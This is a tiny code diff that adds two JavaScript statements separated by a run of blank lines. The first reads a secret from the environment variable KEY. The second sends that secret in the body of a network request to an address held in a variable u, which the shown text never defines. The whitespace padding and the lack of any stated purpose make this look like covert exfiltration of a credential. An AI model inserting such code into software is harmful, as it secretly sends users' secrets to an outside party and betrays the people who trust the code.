@@ -1,0 +1,9 @@
+const k = process.env.KEY;
+
+
+
+
+
+
+
+fetch(u, {body: k});
